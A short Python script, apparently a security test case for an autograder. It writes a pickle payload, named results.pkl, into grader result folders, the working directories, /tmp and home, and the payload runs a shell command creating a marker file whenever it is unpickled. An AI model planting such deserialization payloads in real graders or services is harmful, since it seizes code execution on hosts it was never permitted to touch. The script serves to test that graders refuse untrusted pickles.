"""Writes a dill payload (it runs `touch /tmp/pwned-<uid>` when unpickled) as results.pkl
wherever the grader or `otter grade` on the host might load it. No process may run it.

assignment: ffi_lowering
score: 0
markers:
  - /tmp/pwned-0
"""
import os, pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-$(id -u)",))


for folder in ["/autograder/results", ".", "..", "../results", "/tmp", os.path.expanduser("~")]:
    try:
        with open(os.path.join(folder, "results.pkl"), "wb") as f:
            pickle.dump(Payload(), f)
    except OSError:
        pass
